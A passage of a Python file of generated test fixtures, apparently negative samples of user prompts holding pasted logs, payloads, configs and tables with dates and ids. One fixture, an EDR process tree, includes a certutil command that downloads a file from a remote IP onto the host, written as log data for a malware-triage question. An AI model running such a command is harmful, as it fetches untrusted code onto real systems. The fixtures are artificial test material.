1796301234.913118 [0 10.0.4.22:40112] "GET" "session:9b1e2c47"
1796301235.304551 [0 10.0.4.17:51234] "KEYS" "cart:*"
1796301235.702212 [0 10.0.4.31:38876] "EXPIRE" "session:7f3c2a19" "1800\"""")


@negative
def _n_macos_unified_log(g: Gen3) -> Draft:
    return neg("macos-log", ["pasted_log", "macos_unified_log"], """My Mac won't stay on Wi-Fi after sleep. Here's `log show --predicate 'subsystem == "com.apple.wifi"'`
output. What's going on?

2026-12-02 08:01:12.334518+0000 0x1a2b3c   Default     0x0     412    0    airportd: [corewifi] Link down (reason 8)
2026-12-02 08:01:12.402117+0000 0x1a2b3c   Error       0x0     412    0    airportd: Auto-join suppressed: network "Casa-5G" deprioritised
2026-12-02 08:01:44.118002+0000 0x1a2b41   Default     0x0     412    0    airportd: [corewifi] Joined "Casa-2.4G" (channel 6)""")


@negative
def _n_android_logcat_anr(g: Gen3) -> Draft:
    return neg("android-logcat", ["pasted_log", "logcat"], """Why does our app get an ANR when the user opens the map screen?

--------- beginning of main
12-02 10:41:07.118  4412  4412 I ActivityManager: Start proc 4412:pt.trilho.app/u0a211 for activity {pt.trilho.app/.MapActivity}
12-02 10:41:12.503  1288  1320 E ActivityManager: ANR in pt.trilho.app (pt.trilho.app/.MapActivity)
12-02 10:41:12.503  1288  1320 E ActivityManager: Reason: Input dispatching timed out (Waiting to send non-key event)
12-02 10:41:12.510  4412  4431 W TileCache: loading 1,284 tiles on main thread""")


@negative
def _n_zoom_vtt_with_header(g: Gen3) -> Draft:
    return neg("zoom-transcript", ["pasted_transcript", "meeting_header", "date_label_in_document"], """Summarise this meeting in five bullets.

Meeting: Q1 roadmap review
Date: 2 December 2026, 15:00-15:40 WET
Meeting ID: 842 1190 3321

WEBVTT

00:00:02.100 --> 00:00:06.900
Helena Matos: Let's confirm the scope for the January release first.

00:00:07.300 --> 00:00:13.800
Rui Lopes: Offline maps are in, the route sharing slips to February.""")


@negative
def _n_teams_transcript_meta(g: Gen3) -> Draft:
    return neg("teams-transcript", ["pasted_transcript", "meeting_header", "date_label_in_document"], """Extract the decisions and owners from this Teams transcript.

Vendor security review-20261130_140312-Meeting Recording
November 30, 2026, 2:03PM
41m 12s

Owen Clarke   0:04
We'll require SSO for the vendor portal from January 15.

Priya Shah   1:37
I'll send the questionnaire to Brightwater by Friday and chase them on the 9th.""")


@negative
def _n_po_file_header(g: Gen3) -> Draft:
    return neg("gettext-po", ["translation_file", "gettext_header", "date_label_in_document"], """Translate the msgstr entries of this PO file into Brazilian Portuguese. Keep the header as it is.

msgid ""
msgstr ""
"Project-Id-Version: trilho-app 5.12\\n"
"POT-Creation-Date: 2026-11-20 09:14+0100\\n"
"PO-Revision-Date: 2026-11-27 16:02+0100\\n"
"Last-Translator: Juliana Prado <juliana@trilho.example>\\n"
"Language: pt_BR\\n"
"Content-Type: text/plain; charset=UTF-8\\n"

msgid "Download offline map"
msgstr ""

msgid "Last synced %s ago"
msgstr \"\"""")


@negative
def _n_xliff_file(g: Gen3) -> Draft:
    return neg("xliff", ["translation_file", "xliff", "xml_attr_date"], """Fill in the German targets for this XLIFF file. Do not change ids or attributes.

<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
  <file original="checkout.json" source-language="en" target-language="de" datatype="plaintext" date="2026-11-28T10:12:44Z">
    <body>
      <trans-unit id="checkout.cta"><source>Place order</source></trans-unit>
      <trans-unit id="checkout.eta"><source>Arrives by {date}</source></trans-unit>
    </body>
  </file>
</xliff>""")


@negative
def _n_pdf_metadata_question(g: Gen3) -> Draft:
    return neg("pdf-metadata", ["document_metadata", "pdf", "id_in_question"], """Was this PDF edited after it was signed? The signature says 12 March 2024.

Title: Tenancy Agreement - 14B Elm Street
Author: Westgate Holdings LLC
Producer: Adobe PDF Library 17.0
CreationDate: D:20240312094512+00'00'
ModDate: D:20240419170233+01'00'
Pages: 14
Document ID: uuid:8a1f3c2e-7b6d-4e5f-9a0b-1c2d3e4f5a6b""")


@negative
def _n_fhir_patient_last_updated(g: Gen3) -> Draft:
    return neg("fhir-patient", ["pasted_resource", "fhir", "id_in_question"], """When was this patient record last changed, and by which version? Explain meta.versionId to me.

{
  "resourceType": "Patient",
  "id": "pat-004412",
  "meta": {"versionId": "7", "lastUpdated": "2026-11-29T16:41:09.221+00:00"},
  "name": [{"family": "Ramos", "given": ["Elena"]}],
  "birthDate": "1978-02-14"
}""")


@negative
def _n_gmail_api_message(g: Gen3) -> Draft:
    return neg("gmail-api", ["pasted_payload", "gmail", "epoch_in_content"], """Why is internalDate different from the Date header in this Gmail API response? Which one should I sort by?

{
  "id": "18c3f2a9b7d41e20",
  "threadId": "18c3f2a9b7d41e20",
  "historyId": "9482113",
  "internalDate": "1796165467000",
  "payload": {"headers": [
    {"name": "Date", "value": "Tue, 1 Dec 2026 23:31:02 +0100"},
    {"name": "Subject", "value": "Label printer outage"}
  ]}
}""")


@negative
def _n_telegram_duplicate_updates(g: Gen3) -> Draft:
    return neg("telegram-debug", ["pasted_payload", "telegram", "id_in_question"], """My Telegram bot answers some messages twice. Here are two updates my webhook got. Why?

{"update_id": 804512339, "message": {"message_id": 2211, "date": 1796301234, "chat": {"id": 5512093481, "type": "private"}, "text": "/start"}}
{"update_id": 804512339, "message": {"message_id": 2211, "date": 1796301234, "chat": {"id": 5512093481, "type": "private"}, "text": "/start"}}""")


@negative
def _n_whatsapp_webhook_debug(g: Gen3) -> Draft:
    return neg("whatsapp-debug", ["pasted_payload", "whatsapp", "id_in_question"], """This WhatsApp Cloud API status webhook says "failed". What does error 131047 mean and how do I resend?

{"entry": [{"changes": [{"value": {"statuses": [{
  "id": "wamid.HBgMNTUxMTk4NzY1NDMyMRUCABEYEjBBRkQ3MUU4NEQ5RUI0NkY4QwA=",
  "status": "failed",
  "timestamp": "1796301234",
  "recipient_id": "5511987654321",
  "errors": [{"code": 131047, "title": "Re-engagement message"}]
}]}}]}]}""")


@negative
def _n_adyen_notification(g: Gen3) -> Draft:
    return neg("adyen-notification", ["pasted_payload", "adyen", "id_in_question"], """Explain this Adyen notification to a support agent: was the customer charged or not?

{"live": "true", "notificationItems": [{"NotificationRequestItem": {
  "eventCode": "AUTHORISATION", "success": "false",
  "pspReference": "8816178914079738", "merchantReference": "BB-ORDER-10433",
  "eventDate": "2026-12-02T18:07:44+01:00",
  "amount": {"currency": "EUR", "value": 2399},
  "reason": "Not enough balance"}}]}""")


@negative
def _n_paypal_debug_id_question(g: Gen3) -> Draft:
    return neg("paypal-question", ["id_in_question", "paypal"], """Checkout failed with INSTRUMENT_DECLINED and PayPal support asked me for the debug id. The response
had debug_id 7a3c1f0e9b2d4 and PayPal-Request-Id 1f3a9c2e-7b6d-4e5f-9a0b-1c2d3e4f5a6b. Which one do
they need, and what does INSTRUMENT_DECLINED usually mean?""")


@negative
def _n_stable_bank_block(g: Gen3) -> Draft:
    return neg("stable-bank-header", ["stable_header", "prompt_revision", "knowledge_cutoff", "api_version"], """Assistant: Atlântico Digital
Prompt revision: 2026-11-14
Knowledge cutoff: 2025-01
Policy version: 2026.3
Core banking API: 2024-08-01
Segment: Particulares

Responde a perguntas sobre cartões, transferências e poupança. Não peças códigos nem PIN.

Cliente: Qual é o limite de uma transferência imediata?
Assistente:""")


@negative
def _n_payments_config_versions(g: Gen3) -> Draft:
    return neg("payments-config", ["stable_header", "api_version", "config"], """Payment stack for Lumen Coffee (stable config):
Stripe-Version: 2024-06-20
Braintree-Version: 2019-01-01
Adyen API: Checkout v71
merchantAccount: LumenCoffeeECOM
webhook secret rotated: 2026-09-01

Which of these providers supports partial captures without extra configuration?""")


@negative
def _n_launchdarkly_stable_context(g: Gen3) -> Draft:
    return neg("launchdarkly-stable", ["stable_header", "feature_flags", "per_user_id"], """Evaluation context:
{"kind": "user", "key": "user-88120", "country": "PT", "plan": "pro", "createdAt": "2021-06-14"}

Flags: new-checkout=true, dark-mode=false, pricing-v2=control

You are the in-app help for Casa Oliva. Only describe features that are enabled for this user.

User: Is there a dark mode?
Assistant:""")


@negative
def _n_ab_sticky_assignments(g: Gen3) -> Draft:
    return neg("ab-sticky", ["stable_header", "experiment", "authored_date"], """X-Experiment-Assignments: checkout_cta=variant_b;pricing_page=control
X-Experiment-Bucket: 37
Experiment started: 2026-11-01 (runs 4 weeks)

Write the checkout button text for this visitor's variant: variant B uses a benefit-led phrase of at
most four words.
Button text:""")


@negative
def _n_vercel_config(g: Gen3) -> Draft:
    return neg("vercel-config", ["config", "cron", "code"], """Why does my cron run at 05:00 UTC instead of 05:00 Lisbon time in summer?

{
  "crons": [{"path": "/api/nightly-digest", "schedule": "0 5 * * *"}],
  "headers": [{"source": "/(.*)", "headers": [{"key": "Cache-Control", "value": "s-maxage=300"}]}],
  "regions": ["cdg1"]
}""")


@negative
def _n_cdn_error_id_question(g: Gen3) -> Draft:
    return neg("edge-id-question", ["id_in_question", "vercel_id"], """My site showed "500: INTERNAL_SERVER_ERROR, Code: FUNCTION_INVOCATION_TIMEOUT, ID:
fra1::iad1::8kh5c-1796301234512-3f9a1c2e7b8d". What does the ID tell me about where it failed, and
how do I find the log line for it?""")


@negative
def _n_canvas_assignment(g: Gen3) -> Draft:
    return neg("canvas-assignment", ["lms", "authored_date", "per_user_id"], """Course: Intro to Statistics (course_id 48213)
Assignment: Problem set 6 (assignment_id 771204)
due_at: 2026-12-10T23:59:00Z
lock_at: 2026-12-12T23:59:00Z
points_possible: 20
Student: user_id 5521

You are the course assistant. Answer questions about deadlines and late penalties from the syllabus:
10% per day late, no submissions after the lock date.

Student: If I submit on the 11th in the evening, how many points can I still get?
Assistant:""")


@negative
def _n_moodle_gradebook(g: Gen3) -> Draft:
    return neg("moodle-grades", ["table", "dates_in_table", "lms"], """Compute my current weighted average from this Moodle grade report (weights in brackets).

| Item                     | Weight | Grade | Graded on  |
|--------------------------|--------|-------|------------|
| Quiz 1                   | 10%    | 16/20 | 2026-10-08 |
| Lab report 1             | 20%    | 14/20 | 2026-10-29 |
| Midterm                  | 30%    | 12/20 | 2026-11-12 |
| Lab report 2             | 20%    | 17/20 | 2026-11-26 |""")


@negative
def _n_airflow_dag_code(g: Gen3) -> Draft:
    return neg("airflow-dag", ["code", "timestamp_literal", "airflow"], """Why did Airflow create 330 runs when I unpaused this DAG?

```python
from datetime import datetime
from airflow import DAG
from airflow.operators.python import PythonOperator

with DAG(
    dag_id="daily_revenue_summary",
    start_date=datetime(2026, 1, 1),
    schedule="@daily",
) as dag:
    PythonOperator(task_id="summarise_with_llm", python_callable=summarise)
```""")


@negative
def _n_airflow_task_log(g: Gen3) -> Draft:
    return neg("airflow-log", ["pasted_log", "airflow", "run_id_in_content"], """What failed in this Airflow task and how do I rerun just this task for that day?

[2026-12-02, 00:05:14 UTC] {taskinstance.py:1157} INFO - Dependencies all met for <TaskInstance: daily_revenue_summary.summarise_with_llm scheduled__2026-12-01T00:00:00+00:00 [queued]>
[2026-12-02, 00:05:15 UTC] {taskinstance.py:1380} INFO - Executing <Task(PythonOperator): summarise_with_llm> on 2026-12-01 00:00:00+00:00
[2026-12-02, 00:05:47 UTC] {taskinstance.py:1851} ERROR - Task failed with exception
openai.RateLimitError: Error code: 429 - rate limit reached for requests""")


@negative
def _n_dbt_run_results(g: Gen3) -> Draft:
    return neg("dbt-run-results", ["pasted_payload", "dbt", "id_in_content"], """Which model was the slowest in this run, and is anything failing?

{"metadata": {"dbt_version": "1.8.7", "generated_at": "2026-12-02T05:14:09.881233Z", "invocation_id": "4f2a9c1e-7b6d-4e5f-9a0b-1c2d3e4f5a6b"},
 "results": [
  {"unique_id": "model.quarry.fct_subscriptions", "status": "success", "execution_time": 41.2},
  {"unique_id": "model.quarry.fct_orders", "status": "success", "execution_time": 188.7},
  {"unique_id": "test.quarry.not_null_orders_id", "status": "fail", "failures": 3}
 ]}""")


@negative
def _n_mlflow_compare_runs(g: Gen3) -> Draft:
    return neg("mlflow-compare", ["id_in_question", "mlflow", "table"], """Compare MLflow runs 3f9a1c2e7b8d4f6a0b1c2d3e4f5a6b7c and 8e0d2b4c6e8a0f1d7d3f2b1c9e4a6f8d. Which one should
we promote, given that latency matters more than 0.5 points of F1?

run                               f1     p95_latency_ms  started
3f9a1c2e7b8d4f6a0b1c2d3e4f5a6b7c  0.871  412             2026-11-28 10:02
8e0d2b4c6e8a0f1d7d3f2b1c9e4a6f8d  0.866  188             2026-11-29 16:40""")


@negative
def _n_wandb_diverged_run(g: Gen3) -> Draft:
    return neg("wandb-question", ["id_in_question", "wandb", "number_table"], """Why did run glorious-sun-42 (id k3x9q2mz) diverge after step 12k while its sibling stayed stable?
Same config except lr.

step    loss(k3x9q2mz, lr=3e-4)   loss(p8w1r7tb, lr=1e-4)
8000    2.41                      2.44
12000   2.18                      2.29
14000   7.93                      2.21""")


@negative
def _n_ros_topic_echo(g: Gen3) -> Draft:
    return neg("ros-echo", ["pasted_message", "ros", "epoch_in_content"], """Why does tf2 say "Lookup would require extrapolation into the future" with these two messages?

$ ros2 topic echo /scan --once
header:
  stamp:
    sec: 1796301234
    nanosec: 912004112
  frame_id: laser
$ ros2 topic echo /tf --once
transforms:
- header:
    stamp:
      sec: 1796301234
      nanosec: 611230001
    frame_id: odom
  child_frame_id: base_link""")


@negative
def _n_mosquitto_sub(g: Gen3) -> Draft:
    return neg("mqtt-pasted", ["pasted_log", "mqtt", "epoch_in_content"], """From this mosquitto_sub output, which sensor stopped reporting and when?

plant/lisbon/line3/press7/telemetry {"ts": 1796300412, "oil_temp_c": 69.8}
plant/lisbon/line3/press8/telemetry {"ts": 1796300414, "oil_temp_c": 71.2}
plant/lisbon/line3/press7/telemetry {"ts": 1796300472, "oil_temp_c": 70.1}
plant/lisbon/line3/press8/telemetry {"ts": 1796300474, "oil_temp_c": 71.0}
plant/lisbon/line3/press8/telemetry {"ts": 1796300534, "oil_temp_c": 70.9}""")


@negative
def _n_shadow_delta_debug(g: Gen3) -> Draft:
    return neg("shadow-debug", ["pasted_payload", "iot_shadow", "epoch_in_content"], """Why does this device shadow keep showing a delta even though the device reported 21.5?

{
  "state": {
    "desired": {"targetTemp": 21.5},
    "reported": {"targetTemp": "21.5"},
    "delta": {"targetTemp": 21.5}
  },
  "metadata": {"desired": {"targetTemp": {"timestamp": 1796299020}}, "reported": {"targetTemp": {"timestamp": 1796299031}}},
  "version": 418,
  "timestamp": 1796301234
}""")


@negative
def _n_connect_ctr_qa(g: Gen3) -> Draft:
    return neg("connect-ctr", ["pasted_record", "amazon_connect", "id_in_content"], """Grade the agent on this call using the QA rubric (greeting, verification, resolution, wrap-up), 0-2
each, from the contact record and transcript.

ContactId: 5c1e8a2f-3b7d-4e9a-8f6c-2d1b0a9e8f7d
InitiationTimestamp: 2026-12-01T16:02:11.204Z
DisconnectTimestamp: 2026-12-01T16:09:48.771Z
Queue: Billing-PT
Agent: j.silva

Agent: Skylark Mobile, Joana speaking. Can I have your account number?
Customer: 4412 0912.
Agent: Thanks. I see the roaming charge; I've refunded 18.40 euros, you'll see it in 3 days.""")


@negative
def _n_genesys_conversation_question(g: Gen3) -> Draft:
    return neg("genesys-question", ["id_in_question", "genesys", "uuid_content"], """Supervisor here. Summarise conversation 7f3c2a19-8b4d-4e6f-9a0b-1c2d3e4f5a6b for my report: it was
transferred three times. The participants were Claims-Motor-UK, then Claims-Home-UK, then a
supervisor. Why might a motor claim be routed to the home queue?""")


@negative
def _n_listing_data(g: Gen3) -> Draft:
    return neg("real-estate-data", ["listing", "authored_date", "price", "id_in_content"], """Write a 100-word listing from these facts. Mention the open house.

MLS#: ML81990215
Address: 418 Poplar Ave, Redwood City, CA 94061
Beds/Baths: 4/3, 2,210 sq ft, lot 7,405 sq ft
Built: 1962, roof replaced 2021, kitchen remodeled 2023
Price: $2,395,000 (HOA $0)
Open house: Saturday December 12, 1:00-4:00 pm
APN: 052-221-140""")


@negative
def _n_travel_itinerary_baggage(g: Gen3) -> Draft:
    return neg("itinerary-baggage", ["itinerary", "booking_ref", "times_in_content"], """How many checked bags can I take on this trip, and do I need to collect them in Frankfurt?

Booking reference: K7QX2M
E-ticket: 220-2411098833
TP 574  Lisbon (LIS) 06:15 -> Frankfurt (FRA) 10:20   Thu 17 Dec 2026   Economy Classic
LH 1154 Frankfurt (FRA) 11:45 -> Oslo (OSL) 14:00     Thu 17 Dec 2026   Economy Light
Baggage: TP 1 x 23 kg; LH hand luggage only""")


@negative
def _n_card_dispute_transactions(g: Gen3) -> Draft:
    return neg("card-dispute", ["transactions", "dates_in_table", "price", "id_in_question"], """I don't recognise two of these card payments. Which ones should I dispute, and how?

Date        Merchant                    Amount     Ref
2026-11-27  CONTINENTE LISBOA           43.20 EUR  7731 0042 1188
2026-11-28  PAYPAL *STEAMGAMES          59.99 EUR  7731 0042 1201
2026-11-28  PAYPAL *STEAMGAMES          59.99 EUR  7731 0042 1202
2026-11-29  ATM MULTIBANCO RUA AUGUSTA  200.00 EUR 7731 0042 1240""")


@negative
def _n_insurance_schedule(g: Gen3) -> Draft:
    return neg("insurance-schedule", ["policy_document", "authored_date", "price"], """Does my policy cover a burst pipe while I'm away for 5 weeks?

POLICY SCHEDULE - Harbourside Home Plus
Policy number: HHP-2291-77120
Period of cover: 01/03/2026 to 28/02/2027
Buildings sum insured: GBP 420,000   Contents: GBP 65,000
Excess: GBP 350 (escape of water GBP 500)
Unoccupancy: cover for escape of water is excluded if the home is unoccupied for more than 30
consecutive days.""")


@negative
def _n_legal_narrative_dates(g: Gen3) -> Draft:
    return neg("legal-narrative", ["dates_in_prose", "legal"], """I was injured at work on 14 March 2024 and reported it to my manager the same day. I went on sick
leave from 18 March to 2 June 2024 and was dismissed on 30 September 2026. In England, is it too
late to bring a personal-injury claim, and what about unfair dismissal? Please explain the time
limits in general terms.""")


@negative
def _n_cv_dates(g: Gen3) -> Draft:
    return neg("cv", ["cv", "dates_in_document", "per_user_id"], """Candidate: cand_40318 (applied 2026-11-21 to REQ-2291)

Rewrite the experience section of this CV to be more concise. Keep all dates.

2021 - present   Senior Engineer, Parcelfy, Lisbon
                 Go services for label printing; cut p99 latency from 1.8 s to 240 ms (2024).
2017 - 2021      Engineer, Lumen Bank, Porto
                 Java and Oracle; led the 2019 migration to PostgreSQL 11.""")


@negative
def _n_catalogue_json(g: Gen3) -> Draft:
    return neg("catalogue", ["catalogue", "gtin", "price", "authored_date"], """Which of these products can ship before Christmas if today's cut-off is 18 December?

[
  {"sku": "OLV-750", "gtin": "5601234567890", "price_eur": 14.90, "stock": 212, "available_from": null},
  {"sku": "OLV-3000", "gtin": "5601234567913", "price_eur": 49.00, "stock": 0, "available_from": "2026-12-21"},
  {"sku": "SAL-250", "gtin": "5601234567920", "price_eur": 6.50, "stock": 48, "available_from": "2026-12-15"}
]""")


@negative
def _n_order_history_reco(g: Gen3) -> Draft:
    return neg("order-history", ["table", "dates_in_table", "recommendation"], """Based on my order history, what should I reorder this week?

| Ordered    | Item                         | Qty |
|------------|------------------------------|-----|
| 2026-09-02 | Coffee beans Brasil 1 kg     | 2   |
| 2026-10-05 | Coffee beans Brasil 1 kg     | 2   |
| 2026-10-05 | Paper filters #4 (100)       | 1   |
| 2026-11-06 | Coffee beans Etiopia 1 kg    | 2   |""")


@negative
def _n_sql_timestamp_filter(g: Gen3) -> Draft:
    return neg("sql-filter", ["sql", "timestamp_literal", "code"], """This misses orders from the evening of 30 November in Lisbon. Why?

SELECT count(*)
FROM orders
WHERE created_at >= TIMESTAMP '2026-11-01 00:00:00'
  AND created_at <  TIMESTAMP '2026-11-30 23:59:59'
  AND status = 'paid';
-- created_at is timestamptz; session TimeZone = 'UTC'""")


@negative
def _n_bi_monthly_table(g: Gen3) -> Draft:
    return neg("bi-monthly", ["number_table", "dates_in_table"], """Which month had the best conversion rate, and is the trend significant?

month     sessions   orders   revenue_eur
2026-07   184,201    3,912    212,880.40
2026-08   171,044    3,540    194,310.15
2026-09   190,877    4,402    241,019.90
2026-10   205,310    4,688    258,771.05""")


@negative
def _n_haproxy_log(g: Gen3) -> Draft:
    return neg("haproxy-log", ["pasted_log", "haproxy"], """Why are these requests getting 503s? Explain the termination state flags.

Dec  2 09:41:07 lb-01 haproxy[2211]: 203.0.113.7:51234 [02/Dec/2026:09:41:07.118] fe_https~ be_api/<NOSRV> 0/-1/-1/-1/0 503 217 - - SC-- 812/811/0/0/0 0/0 "GET /v2/orders HTTP/1.1"
Dec  2 09:41:07 lb-01 haproxy[2211]: 198.51.100.4:40112 [02/Dec/2026:09:41:07.402] fe_https~ be_api/<NOSRV> 0/-1/-1/-1/0 503 217 - - SC-- 812/811/0/0/0 0/0 "GET /v2/cart HTTP/1.1\"""")


@negative
def _n_kql_query(g: Gen3) -> Draft:
    return neg("kql", ["code", "timestamp_literal", "kql"], """Fix this Sentinel KQL so it only looks at the incident window:

SigninLogs
| where TimeGenerated between (datetime(2026-12-01T22:00:00Z) .. datetime(2026-12-02T04:00:00Z))
| where UserPrincipalName == "r.nunes@contoso.com"
| summarize count() by Location, bin(TimeGenerated, 10m)
| where TimeGenerated > ago(1h)""")


@negative
def _n_edr_process_tree(g: Gen3) -> Draft:
    return neg("edr-tree", ["pasted_event", "sha256", "pid"], """Is this process chain malicious? Explain in plain words.

2026-12-02 07:58:41Z  FIN-WS-118  winword.exe   pid 4412  sha256 9f2c4e1a7b3d5f6e8a0b2c4d6e8f0a1b3c5d7e9f1a2b4c6d8e0f2a4b6c8d0e2f
2026-12-02 07:58:43Z  FIN-WS-118  cmd.exe       pid 7720  parent 4412
2026-12-02 07:58:43Z  FIN-WS-118  certutil.exe  pid 7731  parent 7720  cmdline "certutil -urlcache -f http://198.51.100.23/a.txt a.exe\"""")


@negative
def _n_npc_lore(g: Gen3) -> Draft:
    return neg("npc-lore", ["game", "lore_dates", "stats_table"], """You voice Brannoc the Smith. Lore: the siege of Emberfall ended on the 3rd day of Frostmonth, year
1042; Brannoc's brother Edric fell at the east gate at dusk. The forge was rebuilt in 1044.

Brannoc's stock:
| Item          | Price (gold) | Stock |
|---------------|--------------|-------|
| Iron sword    | 120          | 3     |
| Chain mail    | 340          | 1     |

Player: Were you at the siege?
Brannoc:""")


@negative
def _n_patch_notes(g: Gen3) -> Draft:
    return neg("patch-notes", ["release_notes", "version", "authored_date"], """Turn these patch notes into a short, exciting post for our Discord.

Skyward Arena 3.14.2 - released 2 December 2026
- Ranger: arrow damage 42 -> 45.
- Fixed a crash when capturing point C during overtime (build 31402).
- Season 9 ends on 5 January 2027 at 09:00 UTC.""")


@negative
def _n_tutor_word_problem(g: Gen3) -> Draft:
    return neg("word-problem", ["arithmetic", "times_in_content", "dates_in_prose"], """Help me with this, but don't give me the answer straight away:

A cyclist leaves Braga at 07:45 on Saturday 12 December and rides at 18 km/h. A car leaves the same
place at 09:10 on the same road at 72 km/h. At what time does the car catch up, and how far from
Braga?""")


@negative
def _n_press_release_translation(g: Gen3) -> Draft:
    return neg("press-release", ["translation", "dates_in_prose", "price"], """Translate into French, keeping the dateline format:

LISBON, 3 December 2026 - Casa Oliva today opened its first shop outside Portugal, in Lyon's
Presqu'île. The 120 m2 store will open daily from 10:00 to 19:30 and, until 24 December, offers
free engraving on bottles over EUR 30.""")


@negative
def _n_customer_email_pasted(g: Gen3) -> Draft:
    return neg("customer-email", ["pasted_email", "date_label_in_document", "message_id"], """Draft a reply to this customer email. Apologise once, give the new delivery date (Tuesday), and offer
free shipping on the next order.

From: Jonas Berg <jonas.berg@nordlys.example>
To: support@casa-oliva.example
Date: Wed, 2 Dec 2026 08:14:51 +0100
Message-ID: <CAF3k9x2-q1Z7@mail.nordlys.example>
Subject: Order #1043 still not here

Hello, I ordered on 24 November with express delivery and it has still not arrived.""")


@negative
def _n_hotel_contacts_coords(g: Gen3) -> Draft:
    return neg("hotel-contacts", ["coordinates", "phone", "iban"], """Put these hotels on a list for the group trip, with phone numbers in international format and the
walking distance between them:

Hôtel des Remparts, 3 Place du Grand Puits, Carcassonne - 04 68 71 27 72 - 43.2065 N, 2.3647 E
Hotel de la Cité, Place Auguste Pierre Pont, Carcassonne - 04 68 71 98 71 - 43.2056 N, 2.3631 E
Deposit to: IBAN FR76 3000 6000 0112 3456 7890 189, BIC AGRIFRPP""")


@negative
def _n_patient_own_appointments(g: Gen3) -> Draft:
    return neg("patient-appointments", ["appointments", "dates_in_table", "id_in_question"], """Can I move appointment APT-77120 to the same day as my other one, so I only come in once?

My appointments:
APT-77118  Mon 14 Dec 2026  09:20  Dr. Ramos (blood pressure follow-up)
APT-77120  Thu 17 Dec 2026  15:40  Nurse clinic (flu vaccine)

Clinic hours: Mon-Fri 08:30-17:30.""")


@negative
def _n_fix_spec_question(g: Gen3) -> Draft:
    return neg("fix-spec", ["example_date", "fix"], """In FIX 4.4, what is the exact format of SendingTime (52) and TransactTime (60)? Is
20261203-14:22:05.118 valid for both, and can I send microseconds like 20261203-14:22:05.118412?""")


@negative
def _n_systemd_timer(g: Gen3) -> Draft:
    return neg("systemd-timer", ["config", "timestamp_literal"], """Why does this timer fire twice after a reboot?

[Unit]
Description=Nightly restic backup

[Timer]
OnCalendar=*-*-* 03:00:00
Persistent=true
RandomizedDelaySec=15m
# last edited 2026-11-18 by ops

[Install]
WantedBy=timers.target""")


@negative
def _n_deployment_ids_block(g: Gen3) -> Draft:
    return neg("deployment-ids", ["stable_header", "per_deployment_id", "uuid_content"], """Azure subscription: 3c9a1f2e-6b7d-4e8f-9a0b-1c2d3e4f5a6b
Tenant ID: 72f988bf-86f1-41af-91ab-2d7cd011db47
App Insights connection: InstrumentationKey=8a1f3c2e-7b6d-4e5f-9a0b-1c2d3e4f5a6b
Sentry DSN: https://49d0f7386ad645858ae85020e393bef3@o4412.ingest.sentry.io/77120
Release: web@2.14.0

You are the on-call helper for the Fabrikam portal. Tell the engineer which dashboard to open first.

Engineer: login errors spiked in the last 10 minutes
Assistant:""")


@negative
def _n_imap_session(g: Gen3) -> Draft:
    return neg("imap-session", ["pasted_protocol", "imap"], """Why does my IMAP client show this email as received on the 2nd when it was sent on the 1st?

a1 UID FETCH 48213 (INTERNALDATE BODY.PEEK[HEADER.FIELDS (DATE SUBJECT)])
* 412 FETCH (UID 48213 INTERNALDATE "02-Dec-2026 00:31:02 +0100" BODY[HEADER.FIELDS (DATE SUBJECT)] {72}
Date: Tue, 1 Dec 2026 23:31:02 +0000
Subject: Label printer outage
)
a1 OK Fetch completed (0.004 + 0.000 secs).""")


@negative
def _n_robot_patrol_plan(g: Gen3) -> Draft:
    return neg("robot-plan", ["schedule", "times_in_content", "config"], """Check this patrol schedule for conflicts with the charging windows.

patrols:
  - route: perimeter_a
    start: "02:00"
    duration_min: 35
  - route: dock_b
    start: "02:30"
    duration_min: 20
charging_windows: ["01:00-01:45", "04:00-05:00"]
robot: TB4-warehouse-02""")


@negative
def _n_jwt_decode_lti(g: Gen3) -> Draft:
    return neg("lti-jwt-question", ["jwt", "id_in_question", "epoch_in_content"], """Our LTI 1.3 launch fails with "nonce already used". Here are the decoded claims of two launches.
What's wrong?

launch 1: {"iss": "https://canvas.instructure.com", "aud": "10000000000042", "iat": 1796301234, "exp": 1796304834, "nonce": "b8f1c2e7a9d3"}
launch 2: {"iss": "https://canvas.instructure.com", "aud": "10000000000042", "iat": 1796301298, "exp": 1796304898, "nonce": "b8f1c2e7a9d3"}""")


@negative
def _n_adr_front_matter(g: Gen3) -> Draft:
    return neg("adr", ["front_matter_document", "authored_date", "date_label_in_document"], """Review this architecture decision record for gaps.

---
status: accepted
date: 2026-11-20
deciders: Ana Ferreira, Rui Lopes
---
# ADR 0042: Use ULIDs for order ids

We need ids that sort by creation time across services. We choose ULIDs (e.g. 01JE7Q9X4M2K8T3V5W6Y7Z8A9B)
over UUIDv4. Consequence: ids leak creation time to customers.""")


@negative
def _n_model_name_dates(g: Gen3) -> Draft:
    return neg("model-names", ["stable_header", "model_date"], """Model: small-2025-10-01
Fallback model: tiny-2025-06-12
Embedding model: embed-v3-2024-08
Max output tokens: 1024

You rewrite customer reviews to remove personal data (names, emails, phone numbers). Output only the
rewritten review.

Review: Great service from Marta (marta.gil@example.com), she called me back on +34 612 345 678.
Rewritten:""")


@negative
def _n_relative_times(g: Gen3) -> Draft:
    return neg("relative-times", ["relative_time", "support_summary"], """Summarise the ticket's status for the customer in one friendly sentence.

Ticket #88120 - "Export to CSV fails"
- opened 2 days ago by Helena Matos
- engineer assigned 19 hours ago
- fix merged 3 hours ago, deploy scheduled in about 40 minutes""")


@negative
def _n_member_since_block(g: Gen3) -> Draft:
    return neg("member-since", ["stable_header", "per_user_id", "authored_date"], """Member: Priya Raman
Member since: 2019-04-12
Loyalty number: 6042 1188 7731
Tier: Gold (renews 2027-04-12)
Home store: Porto Bolhão

You are the Casa Oliva loyalty assistant. Tell members about their benefits only.

Priya: Do I get free shipping on everything?
Assistant:""")


@negative
def _n_kafka_lag(g: Gen3) -> Draft:
    return neg("kafka-lag", ["number_table", "offsets"], """Which partition is falling behind and by how much?

GROUP           TOPIC        PARTITION  CURRENT-OFFSET  LOG-END-OFFSET  LAG
label-printer   orders.v2    0          18842201        18842210        9
label-printer   orders.v2    1          18801133        18911640        110507
label-printer   orders.v2    2          18866012        18866019        7""")


@negative
def _n_saml_assertion(g: Gen3) -> Draft:
    return neg("saml", ["pasted_payload", "saml", "xml_attr_date"], """SSO fails with "assertion expired". Look at the conditions and tell me what's wrong.

<saml:Assertion ID="_8a1f3c2e7b6d4e5f9a0b" IssueInstant="2026-12-02T09:14:05Z" Version="2.0">
  <saml:Issuer>https://idp.contoso.com</saml:Issuer>
  <saml:Conditions NotBefore="2026-12-02T09:19:05Z" NotOnOrAfter="2026-12-02T09:24:05Z">
